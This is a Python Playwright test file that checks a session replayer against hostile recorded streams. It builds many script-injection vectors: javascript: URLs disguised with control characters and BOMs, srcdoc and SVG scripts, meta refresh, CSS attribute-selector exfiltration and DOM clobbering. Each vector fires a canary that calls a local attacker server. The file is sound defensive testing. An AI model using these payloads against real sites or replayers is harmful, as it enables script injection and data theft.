"""The replayer as a security boundary (issue 15): a hostile page recorded by the builtin recorder,
and streams an attacker could post to the ingest directly, replayed in the real replayer. Nothing
recorded may run, reach the network beyond the allowed origins, navigate, or blind the reviewer;
with the frame's sandbox widened to next to nothing, the other layers must hold on their own."""

from __future__ import annotations

import itertools
import json
import re
import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import Page, Request

import recorder
from harness import adapters
from harness.adapters.base import REPLAY_PAGE_CSP, REPLAY_PAGE_CSS
from harness.drive import record
from harness.scenario import load_scenario
from harness.server import Server
from harness.worker import Worker
from tests.conftest import FIXTURES

SECURITY = FIXTURES / "security"
# As good as no sandbox: only the replayer's other layers stand between the stream and the viewer.
WIDENED = (
    "allow-same-origin allow-scripts allow-forms allow-popups allow-top-navigation allow-modals"
)
# The sandbox attribute removed altogether.
NO_SANDBOX = "none"
LATER_CLICK = "clicked after the vectors"
LATER_TEXT = "typed after the vectors"
# Schemes that never leave the browser.
LOCAL_SCHEMES = ("data:", "blob:", "about:")

Event = list[Any]
Node = list[Any]


def canary(attacker: str, name: str) -> str:
    """A vector's script: it says it ran in each way a test can see (a console line, a global in
    its window, its parent and the top one, a message to the top window, a request)."""
    return (
        f"console.log('pwned:{name}');top.__pwned=parent.__pwned=window.__pwned='{name}';"
        f"top.postMessage('pwned:{name}','*');fetch('{attacker}/pwned/{name}')"
    )


def render(template: str, attacker: str, here: str) -> str:
    """A fixture page with the attacker's origin, this folder's URL and the canaries filled in."""
    text = re.sub(r"\{\{PWN:([\w-]+)\}\}", lambda m: canary(attacker, m[1]), template)
    return text.replace("{{A}}", attacker).replace("{{HERE}}", here)


# --- crafted streams: what an attacker can post to the ingest, unfiltered ----------------------

# What browsers strip or decode before they read a scheme, and what a replayer's trim() strips.
JS_PREFIXES = {
    "plain": "javascript:",
    "case": "JaVaScRiPt:",
    "control": "\x01javascript:",
    "tab": "java\tscript:",
    "newline": "java\nscript:",
    "space": " javascript:",
    "nbsp": "\u00a0javascript:",
    "bom": "\ufeffjavascript:",
    "entity": "&#106;avascript:",
}


class Nodes:
    """Serialized nodes (recorder/src/format.ts) with ids from one counter, as in a page load."""

    def __init__(self) -> None:
        self._ids = itertools.count(1)
        self.by_name: dict[str, int] = {}

    def id(self, name: str | None = None) -> int:
        new = next(self._ids)
        if name:
            self.by_name[name] = new
        return new

    def el(
        self,
        tag: str,
        attrs: dict[str, str] | None = None,
        *children: Node,
        name: str | None = None,
        **extra: Any,
    ) -> Node:
        node: Node = [2, self.id(name), tag, attrs or {}, list(children)]
        if extra:
            node.append(extra)
        return node

    def text(self, text: str, name: str | None = None) -> Node:
        return [3, self.id(name), text]


def vectors(n: Nodes, a: str, tag: str) -> list[Node]:
    """Every vector class of the issue as the replayer would receive it, nothing filtered out;
    `tag` names this copy in the attacker's log and in the canaries."""

    def pwn(name: str) -> str:
        return canary(a, f"{tag}-{name}")

    def url(path: str) -> str:
        return f"{a}/{tag}/{path}"

    out: list[Node] = [
        *(n.el(t, {}, n.text(pwn(f"script-{t}"))) for t in ("script", "SCRIPT", "Script")),
        n.el("script", {"src": url("script-src.js")}),
        n.el("script", {}, n.text("", name=f"{tag}-script-text")),
        n.el("SCRIPT", {}, n.text("", name=f"{tag}-SCRIPT-text")),
        n.el(
            "div",
            {
                "onclick": pwn("onclick"),
                "ONMOUSEOVER": pwn("ONMOUSEOVER"),
                "OnFocus": pwn("OnFocus"),
            },
            n.text("handlers"),
        ),
        n.el("img", {"src": url("onerror.png"), "onerror": pwn("onerror")}),
        n.el("body", {"onload": pwn("body-onload")}),
    ]
    for key, prefix in JS_PREFIXES.items():
        out += [
            n.el("a", {"href": prefix + pwn(f"href-{key}")}, n.text("link")),
            n.el("iframe", {"src": prefix + pwn(f"iframe-{key}")}),
            n.el("form", {"action": prefix + pwn(f"action-{key}")}, n.el("button", {})),
            n.el("button", {"formaction": prefix + pwn(f"formaction-{key}")}),
            n.el("object", {"data": prefix + pwn(f"object-{key}")}),
            n.el("embed", {"src": prefix + pwn(f"embed-{key}")}),
            n.el(
                "svg",
                {},
                n.el("a", {"href": prefix + pwn(f"svg-href-{key}")}, ns=1),
                n.el("a", {"xlink:href": prefix + pwn(f"svg-xlink-{key}")}, ns=1),
                ns=1,
            ),
        ]
    out += [
        n.el(
            "svg",
            {},
            n.el("script", {"href": url("svg-script.js")}, ns=1),
            n.el("script", {}, n.text(pwn("svg-script")), ns=1),
            n.el("script", {"xlink:href": url("svg-xlink-script.js")}, ns=1),
            n.el(
                "a",
                {"href": "#"},
                n.el("set", {"attributeName": "href", "to": "javascript:" + pwn("set")}, ns=1),
                n.el("animate", {"attributeName": "href", "to": "javascript:" + pwn("anim")}, ns=1),
                n.el("text", {"y": "10"}, n.text("svg"), ns=1),
                ns=1,
            ),
            n.el("image", {"href": url("svg-image.png"), "width": "1", "height": "1"}, ns=1),
            ns=1,
        ),
        n.el("meta", {"HTTP-EQUIV": "refresh", "content": f"0; url={url('refresh-upper')}"}),
        n.el("meta", {"content": f"0; url={url('refresh-first')}", "http-equiv": "refresh"}),
        n.el("meta", {"http-equiv": "Refresh", "CONTENT": f"0; url={url('refresh-CONTENT')}"}),
        n.el("meta", {"http-equiv": "Content-Security-Policy", "content": "default-src 'none'"}),
        n.el("meta", {"name": "referrer", "content": "unsafe-url"}),
        n.el("iframe", {"srcdoc": f"<script>{pwn('srcdoc')}</script>"}),
        n.el(
            "iframe",
            {
                "srcdoc": f"<script>{pwn('srcdoc-own')}</script>",
                "sandbox": "allow-scripts allow-same-origin",
            },
        ),
        n.el("iframe", {"SRCDOC": f"<img src='{url('srcdoc.png')}'>"}),
        n.el("iframe", {"src": url("iframe")}),
        n.el("object", {"data": url("object")}),
        n.el("embed", {"src": url("embed")}),
        # Same-origin frame content, as the recorder sends it in extra.frame.
        n.el(
            "iframe",
            {},
            frame=[
                0,
                n.id(),
                [
                    n.el(
                        "html",
                        {},
                        n.el("head", {}, n.el("base", {"href": url("frame-base/")})),
                        n.el(
                            "body",
                            {},
                            *(n.el(t, {}, n.text(pwn(f"frame-{t}"))) for t in ("script", "SCRIPT")),
                            n.el(
                                "meta", {"HTTP-EQUIV": "refresh", "content": f"0; url={url('fr')}"}
                            ),
                            n.el("a", {"href": "\u00a0javascript:" + pwn("frame-href")}),
                            n.el("img", {"src": "frame-relative.png"}),
                        ),
                    )
                ],
                [f"html {{ background: url({url('frame-adopted.png')}) }}"],
            ],
        ),
        n.el(
            "div",
            {},
            name=f"{tag}-host",
            shadow=[
                *(n.el(t, {}, n.text(pwn(f"shadow-{t}"))) for t in ("script", "Script")),
                n.el("a", {"href": "\ufeffjavascript:" + pwn("shadow-href")}, n.text("s")),
                n.el("img", {"src": url("shadow.png")}),
            ],
            shadowSheets=[
                f"@import url({url('shadow-import.css')});"
                f"div {{ background: url({url('shadow.png')}) }}"
            ],
        ),
        # Resources: each kind pointing to the attacker.
        n.el("img", {"src": url("img.png")}),
        n.el("img", {"src": url("unsafe-url.png"), "referrerpolicy": "unsafe-url"}),
        n.el("img", {"srcset": f"{url('srcset.png')} 1x, {url('srcset2.png')} 2x"}),
        n.el("img", {"src": "relative-to-base.png"}),
        n.el("picture", {}, n.el("source", {"srcset": url("source.png")}), n.el("img", {})),
        n.el(
            "video",
            {"poster": url("poster.png"), "src": url("video.webm")},
            n.el("source", {"src": url("video-source.webm")}),
            n.el("track", {"src": url("track.vtt"), "default": ""}),
        ),
        n.el("audio", {"src": url("audio.ogg"), "autoplay": ""}),
        n.el("input", {"type": "image", "src": url("input-image.png")}),
        n.el("table", {"background": url("table-background.png")}),
        *(
            n.el("link", {"rel": rel, "href": url(f"link-{rel}"), "as": "image"})
            for rel in ("stylesheet", "preload", "prefetch", "modulepreload", "icon", "preconnect")
        ),
        n.el(
            "link",
            {"rel": "stylesheet", "href": url("link-css")},
            css=f"@import url({url('link-import.css')});",
        ),
        n.el(
            "style",
            {},
            n.text(
                f"@import url({url('style-import.css')});"
                f"@font-face {{ font-family: x; src: url({url('font.woff2')}) }}"
                f"body {{ font-family: x; background: url({url('style-bg.png')}) }}"
                f"input[value^='s'] {{ background: url({url('exfil-s')}) }}",
                name=f"{tag}-style-text",
            ),
            name=f"{tag}-style",
        ),
        n.el("style", {}, css=f"p {{ background: url({url('style-css.png')}) }}"),
        n.el("div", {"style": f"background: url({url('style-attr.png')})"}),
        n.el("input", {"value": "secret"}),
        n.el("a", {"href": "#", "ping": url("ping")}, n.text("ping")),
        n.el("canvas", {}, name=f"{tag}-canvas"),
        # The reviewer's keyboard: focus moved in, Enter on a form or link that leaves.
        n.el("a", {"href": url("link"), "target": "_top"}, n.text("out")),
        n.el(
            "form",
            {"action": url("form"), "target": "_top", "method": "post"},
            n.el("button", {"autofocus": ""}, n.text("send")),
        ),
        n.el("input", {"autofocus": ""}, name=f"{tag}-autofocus"),
        n.el("a", {"href": "#", "name": f"{tag}-attrs"}, name=f"{tag}-attrs"),
        n.el("iframe", {}, name=f"{tag}-frame-attrs"),
        # DOM clobbering: named elements shadow the replayer's document methods.
        *(
            n.el("img", {"name": m})
            for m in ("createElement", "createTextNode", "createComment", "getElementById")
        ),
        n.el("form", {"name": "elementFromPoint"}),
        n.el("form", {"name": "createElementNS"}),
    ]
    return out


def document(n: Nodes, a: str, body: list[Node], head: list[Node] | None = None) -> Node:
    """A page: a doctype whose ids hold markup, a head, the later-action targets, `body`."""
    return [
        0,
        n.id(),
        [
            [
                1,
                n.id(),
                "html",
                f'"><img src="{a}/doctype/public.png">',
                f"'><img src='{a}/sys.png'>",
            ],
            n.el(
                "html",
                {},
                n.el("head", {}, n.el("base", {"href": f"{a}/base/"}), *(head or [])),
                n.el(
                    "body",
                    {},
                    n.el(
                        "p",
                        {"id": "status"},
                        n.text("not clicked", name="status-text"),
                        name="status",
                    ),
                    n.el("input", {"id": "notes", "value": ""}, name="notes"),
                    n.el("div", {"id": "added"}, name="added"),
                    *body,
                ),
            ),
        ],
    ]


def later_actions(n: Nodes, t: int) -> list[Event]:
    """What the user did after the vectors: a click that changed the page, typing in a field."""
    status, old = n.by_name["status"], n.by_name["status-text"]
    return [
        [2, t, [[status, 0, n.text(LATER_CLICK)]], [[status, old]], [], []],
        [3, t + 10, n.by_name["notes"], LATER_TEXT],
        [10, t + 20, "end"],
    ]


def crafted_vectors(page_url: str, a: str) -> list[Event]:
    """Each vector in the Snapshot, in Mutation adds, attributes and texts, and in the events
    that carry CSS, image URLs or hrefs."""
    n = Nodes()
    root = document(n, a, vectors(n, a, "snap"), vectors(n, a, "head"))
    ids = n.by_name
    later = vectors(n, a, "add")
    events: list[Event] = [
        [8, 0, 0, page_url],
        [0, 0, page_url, "crafted", 800, 600, 1],
        [1, 0, root, 0, 0],
        [13, 5, ids["snap-autofocus"], 1],
        [6, 10, 2, ids["snap-autofocus"], 10, 10],
        [2, 100, [[ids["added"], 0, node] for node in later], [], [], []],
        [
            2,
            150,
            [[-ids["snap-host"], 0, n.el("script", {}, n.text(canary(a, "shadow-add")))]],
            [],
            [],
            [],
        ],
    ]
    link, frame, style = ids["snap-attrs"], ids["snap-frame-attrs"], ids["snap-style"]
    attrs: list[list[Any]] = [
        [link, "href", "\u00a0javascript:" + canary(a, "attr-href-nbsp")],
        [link, "HREF", "\ufeffjavascript:" + canary(a, "attr-HREF-bom")],
        [link, "onclick", canary(a, "attr-onclick")],
        [link, "OnFocus", canary(a, "attr-OnFocus")],
        [link, "ping", f"{a}/attr/ping"],
        [link, "style", f"background: url({a}/attr/style.png)"],
        [frame, "srcdoc", f"<script>{canary(a, 'attr-srcdoc')}</script>"],
        [frame, "src", "java\tscript:" + canary(a, "attr-iframe-src")],
        [ids["snap-autofocus"], "formaction", "javascript:" + canary(a, "attr-formaction")],
        [ids["snap-canvas"], "style", f"background-image: url({a}/attr/canvas-style.png)"],
        [ids["snap-host"], "srcset", f"{a}/attr/srcset.png 1x"],
    ]
    # A pragma made active by attribute order: content first, then http-equiv, any case.
    meta = n.el("meta", {"name": "x"})
    events += [
        [2, 200, [[ids["added"], 0, meta]], [], [], []],
        [
            2,
            210,
            [],
            [],
            [[meta[1], "content", f"0; url={a}/attr/refresh"], [meta[1], "HTTP-EQUIV", "refresh"]],
            [],
        ],
        [2, 220, [], [], attrs, []],
        [2, 230, [], [], [[ids["snap-attrs"], "href", f"{a}/attr/link"]], []],
    ]
    # Text changes of a <script>'s child run it in a DOM-built document; a <style>'s load CSS.
    events += [
        [2, 300, [], [], [], [[ids["snap-script-text"], canary(a, "text-script")]]],
        [2, 310, [], [], [], [[ids["snap-SCRIPT-text"], canary(a, "text-SCRIPT")]]],
        [2, 320, [], [], [], [[ids["snap-style-text"], f"@import url({a}/text/import.css);"]]],
        [
            11,
            400,
            style,
            f"@import url({a}/sheet/import.css); body {{ background: url({a}/sheet/bg.png) }}",
        ],
        [
            12,
            410,
            0,
            [
                f"@import url({a}/adopted/import.css);",
                f"html {{ background: url({a}/adopted/bg.png) }}",
            ],
        ],
        [12, 420, ids["snap-host"], [f"div {{ background: url({a}/adopted/shadow.png) }}"]],
        [14, 500, ids["snap-canvas"], "javascript:" + canary(a, "canvas")],
        [14, 510, ids["snap-canvas"], f"{a}/canvas/image.png"],
        [8, 600, 1, "javascript:" + canary(a, "navigation")],
        [8, 610, 4, f"{a}/navigation/elsewhere#status"],
        [8, 620, 2, "\u00a0javascript:" + canary(a, "navigation-nbsp")],
    ]
    return events + later_actions(n, 700)


# Written as 1e999 and -1e999: JSON.parse reads them as Infinity and -Infinity.
INFINITY, NEGATIVE_INFINITY = "__rc_infinity__", "__rc_negative_infinity__"


def crafted_malformed(page_url: str, a: str) -> list[Event]:
    """Events of the wrong shape, type or target; playback skips each and goes on to the end."""
    n = Nodes()
    root = document(
        n, a, [n.el("img", {"name": "createElement"}), n.el("form", {"name": "elementFromPoint"})]
    )
    notes = n.by_name["notes"]
    events: list[Event] = [
        [8, 0, 0, page_url],
        [0, 0, page_url, "malformed", 800, 600, 1],
        [1, 0, root, 0, 0],
        [],
        [2],
        [2, 10],
        [2, 20, "adds", None, 5, {}],
        [
            2,
            30,
            [[99999, 0, n.el("p", {})]],
            [[99999, 88888]],
            [[77777, "href", "x"]],
            [[66666, "t"]],
        ],
        [2, 40, [[notes, 99999, [9, 1, "bogus kind"]]], [], [[notes, 5, 6]], [[notes, None]]],
        [2, 50, [[n.by_name["added"], 0, [2, n.id(), 42, None, "children"]]], [], [], []],
        [99, 60, "an unknown type"],
        ["1", 70, "a type as a string"],
        [-1, 80],
        [3, 90, 99999, "no such node"],
        [3, 95, notes, {"value": "an object"}],
        [4, 100, 0, "NaN", None],
        [4, 110, 0, INFINITY, NEGATIVE_INFINITY],
        [5, 120, "positions"],
        [5, 130, [["x", "y", "z"], None]],
        [6, 140, 2, 99999, "NaN", {}],
        [6, 150, 2, 0, 10, 10],
        [7, 160, 50000, 40000],
        [7, 170, "NaN", None],
        [7, 180, -5, INFINITY],
        [0, 190, None, None, INFINITY, "tall", 1],
        [8, 200, 7, None],
        [9, 210, None, None],
        [10, 220, 12],
        [11, 230, 99999, "p { color: red }"],
        [11, 240, notes, 5],
        [12, 250, 0, "not a list"],
        [12, 260, 99999, [5]],
        [13, 270, 99999],
        [14, 280, 99999, "data:,"],
        [15, 290, notes, 2],
        [17, 300, "not a valid name"],
        [18, 310, notes, "not a list"],
        [19, 320, "lost"],
        [20, 330, None],
        [6, "abc", 2, 0, 1, 1],
        [6, None, 2, 0, 1, 1],
    ]
    return events + later_actions(n, 400)


def to_json(events: list[Event]) -> str:
    text = json.dumps(events, allow_nan=False, separators=(",", ":"))
    return text.replace(f'"{INFINITY}"', "1e999").replace(f'"{NEGATIVE_INFINITY}"', "-1e999")


# --- the replay ------------------------------------------------------------------------------


@dataclass
class Observed:
    """What a replay did that a viewer could see or suffer."""

    requests: list[Request] = field(default_factory=list)
    # Requests the browser stopped before they left (the page's or a document's CSP).
    blocked: set[str] = field(default_factory=set)
    navigations: list[str] = field(default_factory=list)
    console: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)


REPLAY_PAGE = (
    "<!doctype html><html><head><meta charset='utf-8'><style>{css}</style></head>"
    "<body><div id='root'></div><script src='{script}'></script></body></html>"
)

START = """([text, sandbox]) => {
  window.__messages = [];
  addEventListener("message", (e) => window.__messages.push(String(e.data)));
  const options = { root: document.getElementById("root"), speed: 8 };
  if (sandbox === "none") options.sandbox = null;  // no sandbox attribute at all
  else if (sandbox) options.sandbox = sandbox;
  const r = new replaycheckReplay.Replayer(JSON.parse(text), options);
  window.__replayer = r;
  window.__ended = new Promise((done) => r.on("end", done));
  return [r.duration, r.iframe.getAttribute("sandbox")];
}"""

# Globals the canaries set, in every window reachable from the top (opaque-origin frames throw).
PWNED = """() => {
  const out = [];
  const walk = (w) => {
    try {
      if (w.__pwned !== undefined) out.push(String(w.__pwned));
      for (let i = 0; i < w.frames.length; i++) walk(w.frames[i]);
    } catch {}
  };
  walk(window);
  return [...out, ...window.__messages];
}"""

# Pragmas still able to act: <meta http-equiv> refresh or CSP with a content, any case, any tree.
ACTIVE_PRAGMAS = """() => {
  const out = [];
  const walk = (root) => {
    for (const m of root.querySelectorAll(
      "meta[http-equiv=refresh i][content], meta[http-equiv=content-security-policy i][content]")) {
      out.push(m.outerHTML);
    }
    for (const el of root.querySelectorAll("*")) {
      if (el.shadowRoot) walk(el.shadowRoot);
      try { if (el.contentDocument) walk(el.contentDocument); } catch {}
    }
  };
  walk(window.__replayer.iframe.contentDocument);
  return out;
}"""

# Whether the end of playback comes, and whether the replay's images and fonts are loaded,
# within `ms` milliseconds.
WITHIN = """([what, ms]) => Promise.race([
  (what === "end" ? window.__ended : window.__replayer.ready()).then(() => true, () => true),
  new Promise((done) => setTimeout(() => done(false), ms)),
])"""

LATER = """() => {
  const doc = window.__replayer.iframe.contentDocument;
  const get = (id) => Document.prototype.getElementById.call(doc, id); // clobbered on doc
  return [get("status")?.textContent ?? null, get("notes")?.value ?? null];
}"""


def blocked(request: Request) -> bool:
    """Stopped in the browser by a Content-Security-Policy: it never reached the network."""
    return request.failure in ("csp", "net::ERR_BLOCKED_BY_CSP")  # Playwright's, Chromium's


def replay_page(server: Server, page_policy: bool) -> str:
    """The replayer's bundle in a page served as the harness serves its replay page, or, without
    `page_policy`, as a site with no policy of its own would embed it."""
    script = server.add_asset("security-replay.js", recorder.bundle("replay.js"), "text/javascript")
    html = REPLAY_PAGE.format(css=REPLAY_PAGE_CSS, script=script)
    headers = {"Content-Security-Policy": REPLAY_PAGE_CSP, "Referrer-Policy": "no-referrer"}
    name = "security-replay.html" if page_policy else "security-replay-bare.html"
    kind = "text/html; charset=utf-8"
    return server.add_asset(name, html, kind, headers if page_policy else None)


def replay(
    worker: Worker, attacker: Server, text: str, sandbox: str | None, page_policy: bool
) -> list[str]:
    """Replay `text` (a JSON event list) as a reviewer would, seeking, playing and pressing keys;
    every way the stream got through, as findings (none: the replayer held)."""
    url = replay_page(worker.server, page_policy)
    allowed = worker.server.origin + "/"
    seen = Observed()
    before = len(attacker.requests())
    context = worker.browser.new_context(viewport={"width": 1000, "height": 800})
    findings: list[str] = []
    try:
        context.on("request", lambda r: seen.requests.append(r))
        context.on("requestfailed", lambda r: seen.blocked.add(r.url) if blocked(r) else None)
        page: Page = context.new_page()
        page.on("console", lambda m: seen.console.append(m.text))
        page.on("pageerror", lambda e: seen.errors.append(str(e)))
        page.goto(url, wait_until="load")
        page.on("framenavigated", lambda f: seen.navigations.append(f.url))
        duration, frame_sandbox = page.evaluate(START, [text, sandbox])
        if sandbox is not None and frame_sandbox != (None if sandbox == NO_SANDBOX else sandbox):
            findings.append(f"the frame's sandbox is {frame_sandbox!r}, not {sandbox!r}")
        for at in (duration, 0, duration / 2, duration, duration / 3):
            try:
                page.evaluate("t => window.__replayer.seek(t)", at)
            except PlaywrightError as e:
                findings.append(f"seek({at}) threw: {e.message.splitlines()[0]}")
        # Playback at 8x from a third of the way; an exception in a frame's tick ends it early.
        page.evaluate("() => window.__replayer.play()")
        ended = page.evaluate(WITHIN, ["end", 2000 + duration / 8])
        time = page.evaluate("() => [window.__replayer.currentTime, window.__replayer.duration]")
        if not ended or time[0] != time[1]:
            findings.append(f"playback stopped at {time[0]} of {time[1]} ms")
        page.evaluate(WITHIN, ["ready", 2000])
        for _ in range(3):
            for _ in range(4):
                page.keyboard.press("Tab")
            page.keyboard.press("Enter")
        page.wait_for_timeout(300)
        if page.url != url:
            findings.append(f"the top page navigated to {page.url}")
        else:
            findings += [f"script ran: {p}" for p in page.evaluate(PWNED)]
            if page.evaluate("() => !__replayer.iframe.contentDocument"):
                findings.append("the replay frame navigated away (another origin, an error page)")
            else:
                findings += [f"active pragma: {m}" for m in page.evaluate(ACTIVE_PRAGMAS)]
                status, notes = page.evaluate(LATER)
                if (status, notes) != (LATER_CLICK, LATER_TEXT):
                    findings.append(f"later actions not shown: status {status!r}, notes {notes!r}")
            box = page.evaluate(
                "() => [__replayer.iframe.offsetWidth, __replayer.iframe.offsetHeight]"
            )
            if box[0] >= 50000 or box[1] >= 40000:
                findings.append(f"the player was sized {box[0]} x {box[1]}")
    finally:
        context.close()
    findings += [f"attacker got: {r}" for r in attacker.requests()[before:]]
    findings += [
        f"request left the allowed origins: {r.url}"
        for r in seen.requests
        if not r.url.startswith((allowed, *LOCAL_SCHEMES)) and r.url not in seen.blocked
    ]
    findings += [
        f"frame navigated to {u}" for u in seen.navigations if u not in ("about:blank", url)
    ]
    # A canary's own line; a policy's report of a blocked URL may quote one without it running.
    findings += [f"console: {m}" for m in seen.console if m.startswith("pwned:")]
    findings += [f"page error: {e}" for e in seen.errors]
    return list(dict.fromkeys(findings))  # each once: a rebuild loads the same URLs again


# --- fixtures and tests --------------------------------------------------------------------


@pytest.fixture(scope="module")
def attacker() -> Iterator[Server]:
    with Server(log_requests=True) as server:
        yield server


@pytest.fixture(scope="module")
def streams(
    worker: Worker, attacker: Server, tmp_path_factory: pytest.TempPathFactory
) -> dict[str, str]:
    """The three streams as JSON text: the hostile page recorded, and the two crafted ones."""
    site = tmp_path_factory.mktemp("security")
    here = worker.server.mount(site)
    for name in ("hostile.html", "frame.html"):
        (site / name).write_text(render((SECURITY / name).read_text(), attacker.origin, here))
    shutil.copy(SECURITY / "hostile.yaml", site)
    recording = record(
        worker.browser, worker.server, load_scenario(site / "hostile.yaml"), adapters.get("builtin")
    )
    page_url = here + "hostile.html"
    return {
        "recorded": recording.stream.to_json(),
        "crafted": to_json(crafted_vectors(page_url, attacker.origin)),
        "malformed": to_json(crafted_malformed(page_url, attacker.origin)),
    }


MODES = [
    ("default-sandbox", None, True),
    # Without the sandbox: the replayer's own layers (its filters, the policy it writes into each
    # document) and the harness page's policy.
    ("widened-sandbox", WIDENED, True),
    # The replayer's own layers alone: embedded in a page that sets no policy.
    ("widened-sandbox-no-page-policy", WIDENED, False),
    # And with no sandbox attribute at all.
    ("no-sandbox-no-page-policy", NO_SANDBOX, False),
]


@pytest.mark.parametrize(
    ("stream", "sandbox", "page_policy"),
    [
        pytest.param(
            stream,
            sandbox,
            page_policy,
            id=f"{mode}-{stream}",
        )
        for mode, sandbox, page_policy in MODES
        for stream in ("recorded", "crafted", "malformed")
    ],
)
def test_a_hostile_stream_neither_runs_loads_navigates_nor_blinds(
    worker: Worker,
    attacker: Server,
    streams: dict[str, str],
    stream: str,
    sandbox: str | None,
    page_policy: bool,
) -> None:
    findings = replay(worker, attacker, streams[stream], sandbox, page_policy)
    assert not findings, "\n".join(findings)
